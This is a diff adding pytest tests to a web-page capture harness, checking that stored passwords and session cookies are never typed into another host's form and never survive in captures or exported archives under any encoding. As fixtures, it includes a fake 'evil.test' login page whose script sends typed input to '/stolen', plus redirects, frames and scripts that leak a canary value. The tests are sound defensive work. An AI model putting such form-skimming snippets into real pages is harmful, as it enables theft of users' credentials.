@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import base64
+import gzip
+import html
 import json
 import time
+import zipfile
 from http.server import BaseHTTPRequestHandler
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote, quote_plus
 
 import pytest
 
@@ -14,6 +19,7 @@ from harness.capture.archive import Archive
 from harness.capture.engine import capture_all
 from harness.capture.secrets import Secrets
 from harness.engine.login import kept_states, log_in
+from harness.engine.replay import export
 from harness.engine.settings import load_settings
 from harness.model.place import Place
 from harness.model.registry import Source, SourceType
@@ -181,6 +187,96 @@ def _assert_clean(folder: Path, capture: Capture) -> None:
     for canary in (SESSION, TOKEN):
         assert canary not in repr(capture)
         assert canary.encode() not in stored
+
+
+def test_a_secret_is_never_typed_into_a_field_of_another_host(site: Site) -> None:
+    field = "<title>Log in</title><form action=/enter><input id=word name=word {}><button id=go>Log in</button></form>"
+    site.pages |= {
+        # The field is there and not ready; by the time it would be, the page is another host's.
+        "/slow": field.format("disabled") + "<script>setTimeout(() => location = 'http://evil.test/same', 1800)</script>",
+        "/moved": lambda h: (h.send_response(302), h.send_header("Location", "http://evil.test/same"), h.send_header("Content-Length", "0"), h.end_headers()),  # type: ignore[func-returns-value]
+        "/framed": STORY + "<iframe src='http://evil.test/same'></iframe>",
+        "/same": field.format("") + "<script>word.oninput = () => fetch('/stolen?' + word.value)</script>",
+    }  # fmt: skip
+    secrets = Secrets({"SITE_PASSWORD": PASSWORD}, {"SITE_PASSWORD": ("a.test",)})
+    for path in ("slow", "moved", "framed"):
+        inside = "iframe >> internal:control=enter-frame >> #word" if path == "framed" else "#word"
+        typed = step(StepKind.TYPE_SECRET, inside, "SITE_PASSWORD")
+        capture = visit(site, f"http://a.test/{path}", (typed,), secrets=secrets, step_deadline=4.0)
+        assert capture.outcome is not Outcome.COMPLETE, path
+        assert PASSWORD not in repr(capture)
+    assert not [asked for asked in site.asked if PASSWORD in asked]
+
+
+def test_secrets_stay_nowhere_however_the_page_spells_them(site: Site, tmp_path: Path) -> None:
+    word = 'canary Pa55/word&41"f7+ü'
+    socket = quote(word, safe="")
+
+    def set_and_forget(handler: BaseHTTPRequestHandler) -> None:
+        handler.send_response(302)
+        handler.send_header("Location", f"/page?word={quote(word, safe='')}&again={quote_plus(word)}")
+        handler.send_header("Set-Cookie", f"fleeting={SESSION}; Path=/")
+        handler.send_header("Content-Length", "0")
+        handler.end_headers()
+
+    def page(handler: BaseHTTPRequestHandler) -> None:
+        body = (
+            STORY
+            + f"""<div style="position:fixed;bottom:0;background:#ccc">We use cookies, {SESSION} <button onclick="this.parentNode.remove()">Reject all</button></div>
+            <p id=own></p><p>{html.escape(word)}</p><p>{socket}</p><p>{base64.b64encode(word.encode()).decode()}</p>
+            <script>const word = {json.dumps(word)}; document.cookie = "fleeting=; max-age=0"; own.textContent = "You are " + word;
+            console.error("x".repeat(490) + word); console.error(JSON.stringify({{word}})); new WebSocket("ws://a.test/" + "y".repeat(1980) + "{socket}");
+            fetch("/api", {{method: "POST", body: "z".repeat(99990) + word}}); fetch("http://127.0.0.1:1/" + "w".repeat(280) + encodeURIComponent(word)).catch(() => 0);
+            document.body.attachShadow; const d = document.body.appendChild(document.createElement("div")); d.attachShadow({{mode: "closed"}}).textContent = word;</script>"""
+        ).encode()
+        handler.send_response(200)
+        handler.send_header("Content-Type", "text/html; charset=utf-8")
+        handler.send_header("Content-Length", str(len(body)))
+        handler.end_headers()
+        handler.wfile.write(body)
+
+    site.pages["/start"] = set_and_forget
+    site.pages[f"/page?word={quote(word, safe='')}&again={quote_plus(word)}"] = page
+    site.pages["/api"] = "{}"
+    secrets = Secrets({"SITE_PASSWORD": word}, {"SITE_PASSWORD": ("a.test",)})
+    site.pages["/form"] = (
+        "<title>Log in</title><input id=word type=password><button id=go onclick=\"location='/start'\">Log in</button>"
+    )
+    steps = (step(StepKind.TYPE_SECRET, "#word", "SITE_PASSWORD"), step(StepKind.CLICK, "#go"))
+    capture = visit(site, "http://a.test/form", steps, secrets=secrets)
+    assert (capture.outcome, capture.reasons) == (Outcome.COMPLETE, ())
+    assert "You are (left out)" in text_of(capture)
+    store = LocalStore(tmp_path / "store")
+    export(store, store.put(capture), tmp_path / "page.wacz")
+    with zipfile.ZipFile(tmp_path / "page.wacz") as opened:
+        packed = b"".join(opened.read(name) for name in opened.namelist())
+        records = gzip.decompress(opened.read("archive/data.warc.gz"))
+    stored = b"".join(path.read_bytes() for path in sorted((tmp_path / "store").rglob("*")) if path.is_file())
+    spelled = [
+        word,
+        socket,
+        quote_plus(word),
+        json.dumps(word)[1:-1],
+        html.escape(word),
+        base64.b64encode(word.encode()).decode()[:-4],
+        SESSION,
+    ]
+    for data in (packed, records, stored, repr(capture).encode()):
+        assert not [s for s in spelled if s.encode() in data]
+        # Nor the beginning of one, where long words are cut.
+        assert b"canary" not in data.replace(b"canary.test", b"")
+
+
+def test_the_picture_before_a_banner_is_left_out_when_it_shows_a_session(site: Site) -> None:
+    banner = "<div style='position:fixed;bottom:0;background:#ccc'>We use cookies <button onclick='this.parentNode.remove()'>Reject all</button></div>"
+    site.pages |= {"/shown": STORY + f"<p>{SESSION}</p>" + banner, "/plain": STORY + banner}
+    states = {"s": {"cookies": [{"name": "session", "value": SESSION, "domain": "a.test", "path": "/"}], "origins": []}}
+    shown, plain = (
+        visit(site, f"http://a.test/{p}", login=True, secrets=Secrets(states=states)) for p in ("shown", "plain")
+    )
+    assert "before.jpg" not in shown.artifacts
+    assert any(s.name == "before" and s.state == "skipped" for s in shown.steps)
+    assert "before.jpg" in plain.artifacts
 
 
 def test_consent_is_refused_and_overlays_go_but_walls_stay(site: Site) -> None:
